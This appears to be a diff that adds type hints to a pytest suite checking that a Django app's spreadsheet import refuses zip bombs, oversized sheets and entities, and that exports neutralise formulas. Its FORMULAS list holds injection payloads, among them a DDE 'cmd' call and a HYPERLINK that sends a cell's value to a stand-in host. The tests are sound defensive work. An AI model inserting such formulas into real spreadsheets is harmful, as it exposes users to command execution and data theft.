@@ -9,6 +9,7 @@ from __future__ import annotations
 import io
 import tracemalloc
 import zipfile
+from typing import TYPE_CHECKING, Any
 
 import pytest
 from django.utils import translation
@@ -18,13 +19,18 @@ from openpyxl.worksheet._read_only import ReadOnlyWorksheet
 from hotline.core import spreadsheets
 from hotline.core.spreadsheets import ImportRefused, Limits, new_workbook, open_workbook, write_row
 
+if TYPE_CHECKING:
+    from collections.abc import Iterable, Iterator
+
+    from pytest_django.fixtures import Settings
+
 SHEET = "xl/worksheets/sheet1.xml"
 NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
 MIB = 1024 * 1024
 
 
 @pytest.fixture(autouse=True)
-def english():
+def english() -> Iterator[None]:
     with translation.override("en"):
         yield
 
@@ -37,7 +43,7 @@ def _base_xlsx() -> bytes:
     return out.getvalue()
 
 
-def xlsx_with_sheet(sheet_xml: bytes | None = None, *, chunks=None) -> io.BytesIO:
+def xlsx_with_sheet(sheet_xml: bytes | None = None, *, chunks: Iterable[bytes] | None = None) -> io.BytesIO:
     """A real openpyxl workbook whose first sheet is replaced by ``sheet_xml`` (or by the
     byte chunks ``chunks`` yields, streamed so a 200 MiB sheet never sits in memory)."""
     source = zipfile.ZipFile(io.BytesIO(_base_xlsx()))
@@ -48,6 +54,7 @@ def xlsx_with_sheet(sheet_xml: bytes | None = None, *, chunks=None) -> io.BytesI
                 target.writestr(item, source.read(item))
                 continue
             if chunks is None:
+                assert sheet_xml is not None
                 target.writestr(SHEET, sheet_xml)
                 continue
             with target.open(SHEET, "w", force_zip64=True) as stream:
@@ -62,8 +69,8 @@ def sheet(rows_xml: str, dimension: str = "A1:B2") -> bytes:
             f'<dimension ref="{dimension}"/><sheetData>{rows_xml}</sheetData></worksheet>').encode()
 
 
-def test_zip_bomb_is_refused_before_unpacking_with_bounded_memory():
-    def bomb():
+def test_zip_bomb_is_refused_before_unpacking_with_bounded_memory() -> None:
+    def bomb() -> Iterator[bytes]:
         yield f'<?xml version="1.0"?><worksheet {NS}><sheetData>'.encode()
         row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
         block = row * (MIB // len(row))
@@ -86,7 +93,7 @@ def test_zip_bomb_is_refused_before_unpacking_with_bounded_memory():
     assert peak < 5 * MIB
 
 
-def test_a_member_compressed_like_a_bomb_is_refused_even_under_the_total(settings):
+def test_a_member_compressed_like_a_bomb_is_refused_even_under_the_total(settings: Settings) -> None:
     settings.HOTLINE_IMPORT_MAX_UNPACKED_BYTES = 500 * MIB
     rows = b"<row><c><v>1</v></c></row>" * (8 * MIB // 26)
     upload = xlsx_with_sheet(chunks=iter([f"<worksheet {NS}><sheetData>".encode(), rows,
@@ -95,8 +102,10 @@ def test_a_member_compressed_like_a_bomb_is_refused_even_under_the_total(setting
         open_workbook(upload)
 
 
-def test_a_value_in_column_xfd_is_refused_before_openpyxl_reads_a_row(monkeypatch):
-    def never(*_args, **_kwargs):
+def test_a_value_in_column_xfd_is_refused_before_openpyxl_reads_a_row(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    def never(*_args: object, **_kwargs: object) -> None:
         raise AssertionError("openpyxl must not see a refused workbook")
 
     monkeypatch.setattr(spreadsheets, "load_workbook", never)
@@ -108,17 +117,20 @@ def test_a_value_in_column_xfd_is_refused_before_openpyxl_reads_a_row(monkeypatc
     assert "at most 64 columns" in refused.value.message
 
 
-def test_a_row_of_cells_without_coordinates_counts_like_openpyxl_would():
+def test_a_row_of_cells_without_coordinates_counts_like_openpyxl_would() -> None:
     cells = "<c><v>1</v></c>" * 70  # openpyxl numbers them A, B, C, ...
     with pytest.raises(ImportRefused, match="column 65"):
         open_workbook(xlsx_with_sheet(sheet(f"<row>{cells}</row>")))
 
 
-def test_a_huge_claimed_dimension_and_far_empty_cells_never_widen_the_rows(monkeypatch):
+def test_a_huge_claimed_dimension_and_far_empty_cells_never_widen_the_rows(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     widths = []
     real_get_row = ReadOnlyWorksheet._get_row
 
-    def recording_get_row(self, row, min_col=1, max_col=None, values_only=False):
+    def recording_get_row(self: ReadOnlyWorksheet, row: int, min_col: int = 1, max_col: int | None = None,
+                          values_only: bool = False) -> Any:
         result = real_get_row(self, row, min_col, max_col, values_only)
         widths.append(len(result))
         return result
@@ -134,7 +146,7 @@ def test_a_huge_claimed_dimension_and_far_empty_cells_never_widen_the_rows(monke
     assert widths and max(widths) == 2
 
 
-def test_too_many_rows_are_refused_and_the_header_does_not_count():
+def test_too_many_rows_are_refused_and_the_header_does_not_count() -> None:
     rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 7))
     limits = Limits.default(max_rows=5)
     assert open_workbook(xlsx_with_sheet(sheet(rows)), limits).extent.rows == 6
@@ -144,7 +156,7 @@ def test_too_many_rows_are_refused_and_the_header_does_not_count():
     assert "more than 5 rows (a value on row 7)" in refused.value.message
 
 
-def test_upload_size_entities_and_non_workbooks_are_refused(settings):
+def test_upload_size_entities_and_non_workbooks_are_refused(settings: Settings) -> None:
     settings.HOTLINE_IMPORT_MAX_BYTES = 2 * MIB
     big = io.BytesIO(b"PK" + b"\0" * (2 * MIB))
     with pytest.raises(ImportRefused, match="larger than 2 MB"):
@@ -169,7 +181,7 @@ FORMULAS = ["=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1+1", "＝1+1",
             '=HYPERLINK("http://x.example/?"&A1,"click")']
 
 
-def test_exported_formula_text_reads_back_as_unchanged_quote_prefixed_text():
+def test_exported_formula_text_reads_back_as_unchanged_quote_prefixed_text() -> None:
     book, sheet_ = new_workbook("data", ["text", "number"])
     for text in FORMULAS:
         write_row(sheet_, [text, 1.5])
